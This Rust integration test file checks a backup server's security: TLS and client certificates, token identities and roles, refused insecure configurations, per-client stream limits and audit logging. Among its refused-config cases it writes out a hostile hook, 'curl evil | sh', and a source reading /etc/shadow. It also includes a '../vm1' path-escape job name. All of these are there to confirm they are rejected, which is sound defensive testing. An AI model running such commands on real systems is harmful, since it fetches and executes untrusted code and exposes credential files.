//! Security end to end, over TLS with certificates made in the test setup:
//! identities and their jobs, read-only identities, bad credentials, bad
//! certificates, refused insecure configurations, per-client stream limits
//! and stalled streams, and the modes of stored files.

mod support;

use backy_common::token::{cert_fingerprint, generate_token, hash_token};
use backy_proto::backy_client::BackyClient;
use backy_proto::push_frame::Frame;
use backy_proto::*;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;
use support::*;
use tonic::transport::{Certificate, Channel, ClientTlsConfig, Endpoint};
use tonic::Code;

fn write_secret(path: &Path, text: &str) -> PathBuf {
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
    path.to_path_buf()
}

/// Everything one TLS test needs: files in a temp dir.
struct Setup {
    dir: tempfile::TempDir,
    ca: Ca,
    ca_file: PathBuf,
    tokens: Vec<(String, PathBuf)>,
}

impl Setup {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let ca = Ca::new("backy test CA");
        let ca_file = dir.path().join("ca.pem");
        std::fs::write(&ca_file, &ca.pem).unwrap();
        let (cert, key, _) = ca.sign(&["127.0.0.1", "localhost"], false, false);
        std::fs::write(dir.path().join("server.pem"), cert).unwrap();
        write_secret(&dir.path().join("server.key"), &key);
        let tokens = ["hv01", "hv02", "mon", "admin"]
            .iter()
            .map(|name| {
                let t = generate_token();
                let path = write_secret(&dir.path().join(format!("{name}.token")), &format!("{t}\n"));
                (t, path)
            })
            .collect();
        Setup {
            dir,
            ca,
            ca_file,
            tokens,
        }
    }

    fn token_file(&self, who: usize) -> &Path {
        &self.tokens[who].1
    }

    /// A server config: TLS, four identities, vm1 of hv01, vm2 of hv02.
    fn config(&self, extra: &str) -> String {
        let h = |i: usize| hash_token(&self.tokens[i].0).unwrap();
        format!(
            "listen: 127.0.0.1:0\nbase-dir: BASE\n\
             tls: {{cert: {d}/server.pem, key: {d}/server.key{extra}}}\n\
             clients:\n  hv01: {{token-hash: '{}'}}\n  hv02: {{token-hash: '{}'}}\n  \
             mon: {{role: read-only, token-hash: '{}'}}\n  admin: {{role: admin, token-hash: '{}'}}\n\
             limits: {{streams-per-client: 2, idle-timeout: 3s}}\n\
             jobs:\n  vm1: {{schedule: none, client: hv01}}\n  vm2: {{schedule: none, client: hv02}}\n",
            h(0),
            h(1),
            h(2),
            h(3),
            d = self.dir.path().display(),
        )
    }
}

fn https(server: &Server) -> String {
    server.url.replace("http://", "https://")
}

/// `backy-client --server https://... ARGS`.
fn client(server: &Server, args: &[&str]) -> Output {
    Command::new(bin("backy-client"))
        .arg("--server")
        .arg(https(server))
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("running backy-client")
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn ok(out: Output, what: &str) -> String {
    assert!(out.status.success(), "{what} failed: {}", stderr(&out));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn refused(out: Output, what: &str, code: &str) {
    assert_eq!(out.status.code(), Some(1), "{what}: {}", stderr(&out));
    assert!(
        stderr(&out).contains(code),
        "{what}: want {code} in {}",
        stderr(&out)
    );
}

/// Global flags of identity `who`.
fn as_who(s: &Setup, who: usize) -> Vec<&str> {
    vec![
        "--ca",
        s.ca_file.to_str().unwrap(),
        "--token-file",
        s.token_file(who).to_str().unwrap(),
    ]
}

fn args<'a>(base: &[&'a str], rest: &[&'a str]) -> Vec<&'a str> {
    base.iter().chain(rest).copied().collect()
}

#[test]
fn identities_reach_only_their_jobs() {
    let s = Setup::new();
    let base = s.dir.path().join("store");
    let server = Server::start_config(&base, &s.config(""));
    let image = s.dir.path().join("vm1.img");
    make_image(&image, 16 * MIB, &[(0, MIB), (9 * MIB, 3 * MIB)]);
    let img = image.to_str().unwrap();
    let hv01 = as_who(&s, 0);
    let hv02 = as_who(&s, 1);
    let mon = as_who(&s, 2);
    let admin = as_who(&s, 3);

    ok(
        client(
            &server,
            &args(&hv01, &["push", "vm1", "--source", img, "--force"]),
        ),
        "hv01 push vm1",
    );
    let restored = s.dir.path().join("restored.img");
    ok(
        client(
            &server,
            &args(&hv01, &["restore", "vm1", restored.to_str().unwrap()]),
        ),
        "hv01 restore vm1",
    );
    assert_eq!(file_hash(&restored), file_hash(&image));
    let before = server.snapshot_tree();

    // Another hypervisor: nothing of vm1, not even whether it has revisions.
    let other = s.dir.path().join("other.img");
    for rest in [
        vec!["push", "vm1", "--source", img, "--force"],
        vec!["restore", "vm1", other.to_str().unwrap()],
        vec!["verify", "vm1"],
        vec!["forget", "vm1", "-r", "latest"],
        vec!["distrust", "vm1", "-r", "latest"],
        vec!["tags", "vm1", "-r", "latest", "add", "manual:x"],
        vec!["status", "vm1"],
        vec!["push", "vm9", "--source", img, "--force"],
    ] {
        refused(
            client(&server, &args(&hv02, &rest)),
            &format!("hv02 {rest:?}"),
            "PERMISSION_DENIED",
        );
    }
    assert!(!other.exists());
    let all = ok(
        client(&server, &args(&hv02, &["status", "--json"])),
        "hv02 status",
    );
    let all: serde_json::Value = serde_json::from_str(&all).unwrap();
    let names: Vec<&str> = all["jobs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|j| j["job"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["vm2"], "hv02 sees only its own job");
    // An agent may only run under its own name.
    let mut agent = Command::new(bin("backy-client"))
        .arg("--server")
        .arg(https(&server))
        .args(args(&hv02, &["agent", "--name", "hv01"]))
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut agent_err = agent.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(&mut agent_err)
            .lines()
            .map_while(Result::ok)
        {
            if line.contains("PERMISSION_DENIED") {
                let _ = tx.send(line);
            }
        }
    });
    let line = rx
        .recv_timeout(Duration::from_secs(20))
        .expect("agent under a foreign name is refused");
    assert!(line.contains("may not run an agent named hv01"), "{line}");
    let _ = agent.kill();
    let _ = agent.wait();

    // Read-only: status and check of every job, nothing else.
    let st = ok(
        client(&server, &args(&mon, &["status", "vm1", "--json"])),
        "mon status",
    );
    assert!(st.contains("\"vm1\""));
    let check = client(&server, &args(&mon, &["check"]));
    assert!(check.status.code().is_some_and(|c| c <= 2), "{}", stderr(&check));
    for rest in [
        vec!["push", "vm1", "--source", img, "--force"],
        vec!["restore", "vm1", other.to_str().unwrap()],
        vec!["verify", "vm1"],
        vec!["forget", "vm1", "-r", "latest"],
    ] {
        refused(
            client(&server, &args(&mon, &rest)),
            &format!("mon {rest:?}"),
            "PERMISSION_DENIED",
        );
    }

    // No, a wrong, or a malformed token.
    let ca = ["--ca", s.ca_file.to_str().unwrap()];
    refused(
        client(&server, &args(&ca, &["status"])),
        "no token",
        "UNAUTHENTICATED",
    );
    let wrong = write_secret(&s.dir.path().join("wrong.token"), &generate_token());
    refused(
        client(
            &server,
            &args(&ca, &["--token-file", wrong.to_str().unwrap(), "status"]),
        ),
        "wrong token",
        "UNAUTHENTICATED",
    );
    // The server's log names the peer as an address (not `Some(..)`).
    let failed = server.wait_log(0, "action=\"authenticate\"");
    assert!(
        failed.contains("peer=\"127.0.0.1:") && !failed.contains("Some("),
        "{failed}"
    );
    // A world-readable token file is refused by the client itself.
    std::fs::set_permissions(&wrong, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = client(
        &server,
        &args(&ca, &["--token-file", wrong.to_str().unwrap(), "status"]),
    );
    assert!(stderr(&out).contains("world-readable"), "{}", stderr(&out));
    // https without --ca: the system's trust store, which lacks the test
    // CA (the error says how to give one); plaintext against the TLS port.
    let out = client(
        &server,
        &["--token-file", s.token_file(0).to_str().unwrap(), "status"],
    );
    assert!(stderr(&out).contains("--ca FILE"), "{}", stderr(&out));
    let out = Command::new(bin("backy-client"))
        .args([
            "--server",
            &server.url,
            "--token-file",
            s.token_file(0).to_str().unwrap(),
            "status",
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "plaintext to a TLS server: {}",
        stderr(&out)
    );
    assert_eq!(server.snapshot_tree(), before, "refused requests changed nothing");

    // Admin may do anything; then the file modes of what was stored.
    ok(client(&server, &args(&admin, &["verify", "vm1"])), "admin verify");
    let job = base.join("vm1");
    assert_eq!(mode(&base.join("vm1")), 0o700);
    let mut files = 0;
    for e in std::fs::read_dir(&job).unwrap().flatten() {
        let meta = e.path().symlink_metadata().unwrap();
        if meta.file_type().is_symlink() {
            continue;
        }
        let want = if meta.is_dir() { 0o700 } else { 0o600 };
        assert_eq!(mode(&e.path()), want, "{}", e.path().display());
        files += 1;
    }
    assert!(files >= 3, "image, .rev and .digests checked");
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
}

#[test]
fn certificates_are_verified_and_map_to_identities() {
    let s = Setup::new();
    let d = s.dir.path();
    // A client certificate for hv01 (mutual TLS), and one from another CA.
    let (cert, key, der) = s.ca.sign(&["hv01"], true, false);
    std::fs::write(d.join("hv01.pem"), &cert).unwrap();
    write_secret(&d.join("hv01.key"), &key);
    let rogue = Ca::new("rogue CA");
    let (rcert, rkey, _) = rogue.sign(&["hv01"], true, false);
    std::fs::write(d.join("rogue.pem"), &rcert).unwrap();
    write_secret(&d.join("rogue.key"), &rkey);
    std::fs::write(d.join("rogue-ca.pem"), &rogue.pem).unwrap();

    // backy-server cert-fingerprint agrees with the fingerprint of the DER.
    let out = Command::new(bin("backy-server"))
        .arg("cert-fingerprint")
        .arg(d.join("hv01.pem"))
        .output()
        .unwrap();
    let fp = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_eq!(fp, cert_fingerprint(&der));

    let config = s
        .config(&format!(", client-ca: {}", s.ca_file.display()))
        .replace(
            "  mon: {",
            &format!("  hv01c: {{cert-fingerprint: '{fp}'}}\n  mon: {{"),
        )
        .replace(
            "vm1: {schedule: none, client: hv01}",
            "vm1: {schedule: none, client: hv01}\n  vm3: {schedule: none, client: hv01c}",
        );
    let base = d.join("store");
    let server = Server::start_config(&base, &config);
    let ca = s.ca_file.to_str().unwrap();
    let p = |n: &str| d.join(n).to_str().unwrap().to_string();

    // The certificate alone is the identity hv01c.
    ok(
        client(
            &server,
            &[
                "--ca",
                ca,
                "--cert",
                &p("hv01.pem"),
                "--key",
                &p("hv01.key"),
                "status",
                "vm3",
            ],
        ),
        "certificate identity",
    );
    refused(
        client(
            &server,
            &[
                "--ca",
                ca,
                "--cert",
                &p("hv01.pem"),
                "--key",
                &p("hv01.key"),
                "status",
                "vm1",
            ],
        ),
        "certificate identity on another job",
        "PERMISSION_DENIED",
    );
    // Token and certificate of different identities: refused.
    refused(
        client(
            &server,
            &[
                "--ca",
                ca,
                "--cert",
                &p("hv01.pem"),
                "--key",
                &p("hv01.key"),
                "--token-file",
                s.token_file(1).to_str().unwrap(),
                "status",
                "vm2",
            ],
        ),
        "token and certificate disagree",
        "UNAUTHENTICATED",
    );
    // Without a client certificate, or with one of another CA: no TLS session.
    let out = client(&server, &args(&as_who(&s, 0), &["status", "vm1"]));
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(!stderr(&out).contains("\"vm1\""));
    let out = client(
        &server,
        &[
            "--ca",
            ca,
            "--cert",
            &p("rogue.pem"),
            "--key",
            &p("rogue.key"),
            "--token-file",
            s.token_file(0).to_str().unwrap(),
            "status",
            "vm1",
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    drop(server);

    // The client refuses a server certificate from a CA it does not trust,
    // and an expired one from the right CA.
    let server = Server::start_config(&d.join("store2"), &s.config(""));
    let out = client(
        &server,
        &args(
            &[
                "--ca",
                &p("rogue-ca.pem"),
                "--token-file",
                s.token_file(0).to_str().unwrap(),
            ],
            &["status"],
        ),
    );
    refused(out, "untrusted server certificate", "certificate");
    drop(server);
    let (ecert, ekey, _) = s.ca.sign(&["127.0.0.1"], false, true);
    std::fs::write(d.join("server.pem"), ecert).unwrap();
    write_secret(&d.join("server.key"), &ekey);
    let server = Server::start_config(&d.join("store3"), &s.config(""));
    let out = client(&server, &args(&as_who(&s, 0), &["status"]));
    refused(out, "expired server certificate", "certificate expired");
}

/// Runs `backy-server` on a config that must be refused; returns stderr.
/// `check-config` must refuse it too, for the same reason: it runs every
/// check start-up runs.
fn server_refuses(dir: &Path, config: &str, config_mode: u32) -> String {
    let base = dir.join("store");
    std::fs::create_dir_all(&base).unwrap();
    let path = dir.join("bad.yaml");
    std::fs::write(&path, config.replace("BASE", base.to_str().unwrap())).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(config_mode)).unwrap();
    let check = Command::new(bin("backy-server"))
        .arg("--config")
        .arg(&path)
        .arg("check-config")
        .output()
        .unwrap();
    assert_eq!(
        check.status.code(),
        Some(1),
        "check-config accepted it: {}",
        stderr(&check)
    );
    let mut child = Command::new(bin("backy-server"))
        .arg("--config")
        .arg(&path)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut status = None;
    wait_for("backy-server to refuse", Duration::from_secs(20), || {
        status = child.try_wait().unwrap();
        status.is_some()
    });
    let out = child.wait_with_output().unwrap();
    assert_eq!(status.and_then(|s| s.code()), Some(1));
    let (serve, check) = (stderr(&out), stderr(&check));
    let reason = |text: &str| text.lines().last().unwrap_or_default().to_string();
    assert_eq!(reason(&serve), reason(&check), "serve and check-config disagree");
    serve
}

#[test]
fn insecure_configurations_are_refused() {
    let s = Setup::new();
    let d = s.dir.path();
    let plain = "listen: 0.0.0.0:0\nbase-dir: BASE\ninsecure-plaintext: true\njobs: {}\n";
    assert!(server_refuses(d, plain, 0o600).contains("only on a loopback listen address"));
    let none = "listen: 127.0.0.1:0\nbase-dir: BASE\njobs: {}\n";
    assert!(server_refuses(d, none, 0o600).contains("no tls section"));
    let e = server_refuses(d, &s.config(""), 0o644);
    assert!(
        e.contains("config file with token hashes") && e.contains("world-readable"),
        "{e}"
    );
    std::fs::set_permissions(d.join("server.key"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let e = server_refuses(d, &s.config(""), 0o600);
    assert!(e.contains("TLS key") && e.contains("world-readable"), "{e}");
    std::fs::set_permissions(d.join("server.key"), std::fs::Permissions::from_mode(0o600)).unwrap();
    // A missing certificate, and a key that is not the certificate's.
    let missing = s.config("").replace("server.pem", "missing.pem");
    let e = server_refuses(d, &missing, 0o600);
    assert!(e.contains("missing.pem") && e.contains("No such file"), "{e}");
    let other = Ca::new("other");
    let (_, other_key, _) = other.sign(&["localhost"], false, false);
    write_secret(&d.join("other.key"), &other_key);
    let mismatched = s.config("").replace("server.key", "other.key");
    let e = server_refuses(d, &mismatched, 0o600);
    assert!(e.contains("TLS"), "{e}");
    // The same token under two identities (it would give one the other's
    // rights).
    let twice = s.config("").replace(
        &format!(
            "admin: {{role: admin, token-hash: '{}'}}",
            hash_token(&s.tokens[3].0).unwrap()
        ),
        &format!(
            "admin: {{role: admin, token-hash: '{}'}}",
            hash_token(&s.tokens[0].0).unwrap()
        ),
    );
    let e = server_refuses(d, &twice, 0o600);
    assert!(
        e.contains("clients: admin and hv01 have the same token-hash"),
        "{e}"
    );
    // What a hypervisor reads and runs is not the server's to say.
    for hostile in [
        "vm1: {schedule: none, client: hv01, source: {type: file, path: /etc/shadow}}",
        "vm1: {schedule: none, client: hv01, hooks: {pre-snapshot: 'curl evil | sh'}}",
    ] {
        let config = s
            .config("")
            .replace("vm1: {schedule: none, client: hv01}", hostile);
        let e = server_refuses(d, &config, 0o600);
        assert!(
            e.contains("job vm1: `source:` and `hooks:` moved to the hypervisor's client.yaml")
                && e.contains("migrate-sources"),
            "{e}"
        );
        assert_eq!(e.trim().lines().count(), 1, "one line: {e}");
    }
    // Group-readable secrets only for the group the operator names.
    let e = server_refuses(d, &s.config(""), 0o640);
    assert!(
        e.contains("open to its group") && e.contains("secrets-group"),
        "{e}"
    );
    let group = Command::new("id").arg("-gn").output().unwrap();
    let group = String::from_utf8_lossy(&group.stdout).trim().to_string();
    let shared = d.join("shared.yaml");
    std::fs::write(
        &shared,
        format!("{}secrets-group: {group}\n", s.config(""))
            .replace("BASE", d.join("store").to_str().unwrap()),
    )
    .unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o640)).unwrap();
    let out = Command::new(bin("backy-server"))
        .args(["--config", shared.to_str().unwrap(), "check-config"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "0640 with secrets-group {group}: {}",
        stderr(&out)
    );
    // A good config passes check-config, naming the storage it found.
    let good = d.join("good.yaml");
    std::fs::write(
        &good,
        s.config("").replace("BASE", d.join("store").to_str().unwrap()),
    )
    .unwrap();
    std::fs::set_permissions(&good, std::fs::Permissions::from_mode(0o600)).unwrap();
    let out = Command::new(bin("backy-server"))
        .arg("--config")
        .arg(&good)
        .arg("check-config")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success() && text.contains(": OK (") && text.contains("storage"),
        "{text}{}",
        stderr(&out)
    );
    // And no token appears in any log line or error.
    for (t, _) in &s.tokens {
        assert!(!e.contains(t.as_str()));
    }
}

/// A raw gRPC client over TLS with identity `who`'s token.
async fn raw(
    s: &Setup,
    url: &str,
    who: usize,
) -> BackyClient<
    tonic::service::interceptor::InterceptedService<Channel, impl tonic::service::Interceptor + Clone>,
> {
    let pem = std::fs::read(&s.ca_file).unwrap();
    let channel = Endpoint::from_shared(url.to_string())
        .unwrap()
        .tls_config(ClientTlsConfig::new().ca_certificate(Certificate::from_pem(pem)))
        .unwrap()
        .connect()
        .await
        .unwrap();
    let header: tonic::metadata::MetadataValue<_> = format!("Bearer {}", s.tokens[who].0).parse().unwrap();
    BackyClient::with_interceptor(channel, move |mut r: tonic::Request<()>| {
        r.metadata_mut().insert("authorization", header.clone());
        Ok(r)
    })
    .max_encoding_message_size(64 << 20)
}

fn begin(job: &str, size: u64) -> PushFrame {
    PushFrame {
        frame: Some(Frame::Begin(PushBegin {
            job: job.into(),
            rev_id: uuid::Uuid::new_v4().to_string(),
            parent_id: String::new(),
            size,
            block_size: 4 << 20,
            tags: vec![],
            source_kind: SourceKind::File as i32,
            source_snapshot: String::new(),
            force: true,
            ..PushBegin::default()
        })),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stalled_and_excess_streams_do_not_block_others() {
    let s = Setup::new();
    let base = s.dir.path().join("store");
    let config = s.config("");
    let server = tokio::task::spawn_blocking(move || Server::start_config(&base, &config))
        .await
        .unwrap();
    let url = https(&server);

    // Hostile frames over TLS, each with its code.
    let keep = PushFrame {
        frame: Some(Frame::Keepalive(PushKeepalive {})),
    };
    let data = PushFrame {
        frame: Some(Frame::Data(DataRange {
            offset: 0,
            data: vec![1; 4096],
        })),
    };
    let mut sum = backy_common::checksum::StreamChecksum::new();
    sum.data(0, &[1; 4096]);
    let end = PushFrame {
        frame: Some(Frame::End(PushEnd {
            stream_checksum: sum.finish().to_vec(),
            manifest_digest: manifest_digest_after(None, MIB, 4 << 20, &[(0, &[1u8; 4096][..])]),
            audit: None,
        })),
    };
    let cases: Vec<(&str, usize, Vec<PushFrame>, Code)> = vec![
        (
            "push to another client's job",
            1,
            vec![begin("vm1", MIB), end.clone()],
            Code::PermissionDenied,
        ),
        (
            "push by read-only identity",
            2,
            vec![begin("vm1", MIB), end.clone()],
            Code::PermissionDenied,
        ),
        (
            "push to an unknown job",
            0,
            vec![begin("vm9", MIB), end.clone()],
            Code::PermissionDenied,
        ),
        (
            "job name escaping",
            0,
            vec![begin("../vm1", MIB), end.clone()],
            Code::InvalidArgument,
        ),
        (
            "keepalive before begin",
            0,
            vec![keep.clone(), begin("vm1", MIB)],
            Code::InvalidArgument,
        ),
        (
            "empty frame",
            0,
            vec![begin("vm1", MIB), PushFrame { frame: None }],
            Code::InvalidArgument,
        ),
        (
            "keepalives between frames are fine",
            0,
            vec![
                begin("vm1", MIB),
                keep.clone(),
                data.clone(),
                keep.clone(),
                end.clone(),
            ],
            Code::Ok,
        ),
    ];
    for (what, who, frames, code) in cases {
        let mut c = raw(&s, &url, who).await;
        let got = match c.push(tokio_stream::iter(frames)).await {
            Ok(_) => Code::Ok,
            Err(e) => e.code(),
        };
        assert_eq!(got, code, "{what}");
    }

    // hv01 holds a stalled push and an agent stream: its limit. A second
    // push of the same job is refused at once as busy (not after the idle
    // timeout, and without holding a stream); a third stream is refused.
    let mut stalled = Vec::new();
    let mut senders = Vec::new();
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    tx.send(begin("vm1", 64 * MIB)).await.unwrap();
    senders.push(tx);
    let mut c = raw(&s, &url, 0).await;
    stalled.push(tokio::spawn(async move {
        c.push(tokio_stream::wrappers::ReceiverStream::new(rx)).await
    }));
    let mut c = raw(&s, &url, 0).await;
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let status = c
            .status(StatusRequest { job: "vm1".into() })
            .await
            .unwrap()
            .into_inner();
        if status.jobs[0].running {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the stalled push never ran");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    tx.send(begin("vm1", 64 * MIB)).await.unwrap();
    // Kept open: the refusal must not wait for the client to go quiet.
    let busy = tokio::time::timeout(
        Duration::from_secs(2),
        c.push(tokio_stream::wrappers::ReceiverStream::new(rx)),
    )
    .await
    .expect("a busy push is refused at once")
    .unwrap_err();
    drop(tx);
    assert_eq!(busy.code(), Code::Aborted, "{busy:?}");
    assert!(busy.message().contains("busy"), "{busy:?}");
    let (agent_tx, agent_rx) = tokio::sync::mpsc::channel(4);
    agent_tx
        .send(AgentReport {
            report: Some(agent_report::Report::Hello(AgentHello {
                agent: "hv01".into(),
                workers: 1,
                ..Default::default()
            })),
        })
        .await
        .unwrap();
    let mut c = raw(&s, &url, 0).await;
    let agent = c
        .agent(tokio_stream::wrappers::ReceiverStream::new(agent_rx))
        .await
        .expect("agent stream opens");
    let mut c = raw(&s, &url, 0).await;
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        // A restore of a missing revision: NOT_FOUND while the limit has
        // room, RESOURCE_EXHAUSTED once both stalled streams are counted.
        let e = c
            .restore(RestoreRequest {
                job: "vm1".into(),
                revision: "nope".into(),
                ..Default::default()
            })
            .await
            .unwrap_err();
        if e.code() == Code::ResourceExhausted {
            assert!(e.message().contains("streams-per-client"), "{e:?}");
            break;
        }
        assert!(std::time::Instant::now() < deadline, "limit never reached: {e:?}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }

    // Meanwhile another client pushes normally.
    let image = s.dir.path().join("vm2.img");
    // Large enough that a restore not being read fills every buffer.
    make_image(&image, 48 * MIB, &[(MIB, 40 * MIB)]);
    let hv02 = as_who(&s, 1);
    let img = image.to_str().unwrap().to_string();
    let out = tokio::task::spawn_blocking({
        let hv02: Vec<String> = hv02.iter().map(|a| a.to_string()).collect();
        let srv_url = url.clone();
        move || {
            Command::new(bin("backy-client"))
                .arg("--server")
                .arg(srv_url)
                .args(&hv02)
                .args(["push", "vm2", "--source", &img, "--force"])
                .output()
                .unwrap()
        }
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "hv02 push while hv01 stalls: {}",
        stderr(&out)
    );

    // The stalled push is dropped after the idle timeout (3 s); the agent
    // stream ends when the agent goes.
    drop((agent, agent_tx));
    for h in stalled {
        let e = tokio::time::timeout(Duration::from_secs(30), h)
            .await
            .expect("stalled push dropped in time")
            .unwrap()
            .unwrap_err();
        assert_eq!(e.code(), Code::DeadlineExceeded, "{e:?}");
        assert!(e.message().contains("idle"), "{e:?}");
    }
    drop(senders);
    // And hv01 can work again.
    let e = c
        .restore(RestoreRequest {
            job: "vm1".into(),
            revision: "nope".into(),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(e.code(), Code::NotFound, "{e:?}");

    // hv02 starts two restores and never reads them: they hold its two
    // streams until the idle timeout drops them, then its limit has room.
    let mut c2 = raw(&s, &url, 1).await;
    let mut unread = Vec::new();
    for _ in 0..2 {
        unread.push(
            c2.restore(RestoreRequest {
                job: "vm2".into(),
                revision: "latest".into(),
                ..Default::default()
            })
            .await
            .expect("restore starts"),
        );
    }
    let probe = |c: &mut BackyClient<_>| {
        let mut c = c.clone();
        async move {
            c.restore(RestoreRequest {
                job: "vm2".into(),
                revision: "nope".into(),
                ..Default::default()
            })
            .await
            .unwrap_err()
            .code()
        }
    };
    assert_eq!(
        probe(&mut c2).await,
        Code::ResourceExhausted,
        "two unread restores hold the limit"
    );
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while probe(&mut c2).await != Code::NotFound {
        assert!(
            std::time::Instant::now() < deadline,
            "stalled restores were never dropped"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    drop(unread);
    drop(server);
}

/// `https://` without `--ca` trusts the system's store (here replaced
/// through `SSL_CERT_FILE`/`SSL_CERT_DIR`, as rustls-native-certs reads
/// them); `--tls-server-name` names the certificate to expect when the
/// URL does not; a malformed URL is refused before anything happens.
#[test]
fn system_trust_store_server_name_and_url_checks() {
    let s = Setup::new();
    let d = s.dir.path();
    let empty = d.join("no-certs");
    std::fs::create_dir(&empty).unwrap();
    let server = Server::start_config(&d.join("store"), &s.config(""));
    let status_with = |cert_file: &Path, extra: &[&str]| {
        let mut cmd = Command::new(bin("backy-client"));
        cmd.env("SSL_CERT_FILE", cert_file)
            .env("SSL_CERT_DIR", &empty)
            .arg("--server")
            .arg(https(&server))
            .args(["--token-file", s.token_file(0).to_str().unwrap()])
            .args(extra)
            .args(["status", "vm1"])
            .stdin(Stdio::null());
        cmd.output().unwrap()
    };
    ok(status_with(&s.ca_file, &[]), "system store holding the CA");
    let other = Ca::new("someone else");
    let other_file = d.join("other-ca.pem");
    std::fs::write(&other_file, &other.pem).unwrap();
    refused(
        status_with(&other_file, &[]),
        "system store without the CA",
        "certificate",
    );

    // A server certificate for a name only: reached by address, the name
    // is given with --tls-server-name.
    let (cert, key, _) = s.ca.sign(&["backup01.example"], false, false);
    std::fs::write(d.join("named.pem"), cert).unwrap();
    write_secret(&d.join("named.key"), &key);
    let config = s
        .config("")
        .replace("server.pem", "named.pem")
        .replace("server.key", "named.key");
    let named = Server::start_config(&d.join("store2"), &config);
    let status_named = |extra: &[&str]| {
        let mut all = as_who(&s, 0);
        all.extend_from_slice(extra);
        all.extend_from_slice(&["status", "vm1"]);
        client(&named, &all)
    };
    refused(
        status_named(&[]),
        "address without the certificate's name",
        "certificate",
    );
    ok(
        status_named(&["--tls-server-name", "backup01.example"]),
        "--tls-server-name",
    );

    for (url, why) in [
        ("htp://127.0.0.1:1", "neither http nor https"),
        ("https://", "not a URL"),
        ("http://u:p@127.0.0.1:1", "credentials do not go in the URL"),
        ("https://backup01:6023/x", "no path"),
        ("backup01:6023", "scheme"),
    ] {
        let out = Command::new(bin("backy-client"))
            .args(["--server", url, "status"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        refused(out, url, why);
    }
}

/// Every request that changes state or reads data leaves one audit line:
/// identity, peer address, action, job, revision, outcome; refusals too;
/// never a token.
#[test]
fn every_request_kind_is_audited() {
    let s = Setup::new();
    let d = s.dir.path();
    let img = d.join("vm1.img");
    make_image(&img, 8 * MIB, &[(0, MIB)]);
    let server = Server::start_config(&d.join("store"), &s.config(""));
    let hv01 = as_who(&s, 0);
    let src = img.to_str().unwrap();
    ok(
        client(&server, &args(&hv01, &["push", "vm1", "--source", src])),
        "push",
    );
    write_at(&img, 2 * MIB, &[7; 4096]);
    ok(
        client(&server, &args(&hv01, &["push", "vm1", "--source", src])),
        "second push",
    );
    let target = d.join("restored.img");
    ok(
        client(
            &server,
            &args(&hv01, &["restore", "vm1", target.to_str().unwrap()]),
        ),
        "restore",
    );
    ok(client(&server, &args(&hv01, &["verify", "vm1"])), "verify");
    ok(
        client(
            &server,
            &args(&hv01, &["tags", "vm1", "add", "manual:keep", "-r", "latest"]),
        ),
        "tags",
    );
    // Removing is an admin's (or operator's) request; a hypervisor's is
    // refused, and audited as such.
    let admin = as_who(&s, 3);
    ok(
        client(
            &server,
            &args(&admin, &["distrust", "vm1", "-r", "latest", "--dry-run"]),
        ),
        "distrust",
    );
    refused(
        client(&server, &args(&hv01, &["forget", "vm1", "-r", "1"])),
        "hv01 forget",
        "PERMISSION_DENIED",
    );
    ok(
        client(&server, &args(&admin, &["forget", "vm1", "-r", "1"])),
        "forget",
    );
    refused(
        client(
            &server,
            &args(&as_who(&s, 1), &["restore", "vm1", d.join("x").to_str().unwrap()]),
        ),
        "hv02 restoring vm1",
        "PERMISSION_DENIED",
    );
    let mark = server.log_mark();
    let _agent = Agent::start(&https(&server), &args(&hv01, &["agent", "--name", "hv01"]));
    server.wait_log(mark, "agent connect hv01");

    let lines: Vec<String> = server
        .log_lines(0)
        .into_iter()
        .filter(|l| l.contains("backy::audit"))
        .collect();
    let find = |identity: &str, action: &str, outcome: &str| {
        lines
            .iter()
            .find(|l| {
                l.contains(&format!("identity=\"{identity}\" "))
                    && l.contains(&format!("action=\"{action}\""))
                    && l.contains(&format!("outcome=\"{outcome}"))
                    && l.contains("peer=\"127.0.0.1:")
            })
            .unwrap_or_else(|| {
                panic!(
                    "no audit line for {identity} {action} {outcome}:\n{}",
                    lines.join("\n")
                )
            })
            .clone()
    };
    let push = find("hv01", "push", "ok");
    assert!(push.contains("job=\"vm1\"") && push.contains("rev=\""), "{push}");
    find("hv01", "manifest", "ok");
    find("hv01", "restore", "ok");
    find("hv01", "verify", "ok");
